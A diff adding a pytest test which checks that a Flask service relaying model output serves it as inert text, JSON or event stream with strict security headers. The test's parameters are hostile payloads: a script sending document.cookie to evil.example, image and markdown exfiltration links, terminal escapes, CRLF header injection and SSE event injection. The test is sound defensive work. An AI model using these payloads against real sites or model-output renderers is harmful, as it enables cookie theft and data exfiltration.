@@ -178,6 +178,34 @@ def test_a_stream_that_breaks_ends_with_an_error_event(web: FlaskClient, stub: S
 
 
 @pytest.mark.parametrize(
+    "hostile",
+    [
+        "<script>fetch('//evil.example/'+document.cookie)</script>",
+        "<img src=//evil.example/?q=Pixel>",
+        "![](https://evil.example/?q=Pixel)",
+        "\x1b]0;owned\x07\x1b[2J",
+        "a\r\nSet-Cookie: a=b\r\n\r\n<html>",
+        "</script>\u2028data: {}\n\nevent: done\ndata: {}\n\n",
+    ],
+)
+def test_what_a_model_writes_is_text_and_never_a_page(
+    web: FlaskClient, stub: Stub, hostile: str
+) -> None:
+    stub.default = Turn(text=hostile)
+    browser = {"Accept": "text/html,application/xhtml+xml,*/*;q=0.8"}
+    text = web.post("/", data=QUESTION, headers=browser)
+    as_json = web.post("/", json={"question": QUESTION}, headers=browser)
+    stream = web.post("/", data=QUESTION, headers=EVENTS)
+    kinds = ("text/plain", "application/json", "text/event-stream")
+    for response, kind in zip((text, as_json, stream), kinds, strict=True):
+        assert response.mimetype == kind
+        assert response.headers["X-Content-Type-Options"] == "nosniff"
+        assert response.headers["Content-Security-Policy"].startswith("default-src 'none'")
+        assert "Set-Cookie" not in response.headers
+    assert [name for name, _ in events(stream.data)].count("done") == 1
+
+
+@pytest.mark.parametrize(
     ("method", "path", "status", "reason"),
     [
         ("GET", "/nope", 404, "NotFound"),
